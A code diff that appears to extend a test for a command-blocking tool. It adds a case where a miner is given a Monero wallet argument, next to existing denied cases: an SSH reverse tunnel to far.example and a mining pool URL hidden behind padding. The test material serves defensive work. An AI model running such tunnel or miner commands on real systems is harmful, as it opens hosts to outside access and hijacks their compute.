@@ -52,6 +52,8 @@ def agent_script(helpers: Path, out: Path) -> Path:
 FORK=1 SENTINEL={out}/tunnel {ssh} -NfR 2222:localhost:22 far.example
 # denied pool URL hidden after 1 KiB of padding
 SENTINEL={out}/padded {inn} {pad} -o stratum+tcp://198.51.100.7:3333
+# a Monero wallet as an argument: a glob with no literal, held on the argv's length
+SENTINEL={out}/wallet {inn} -u 4{"a" * 94}
 # benign: ssh host cmd (held, then released), a compiled C program, #! scripts
 SENTINEL={out}/ssh-cmd {ssh} far.example grep -R foo
 printf 'int main(void){{return 0;}}' > {out}/p.c && cc -o {out}/p {out}/p.c && {out}/p && touch {out}/compiled
@@ -62,7 +64,7 @@ sleep 0.6
     return s
 
 
-DENIED = ("tunnel", "padded")
+DENIED = ("tunnel", "padded", "wallet")
 BENIGN = ("ssh-cmd", "compiled", "py-script")
 
 
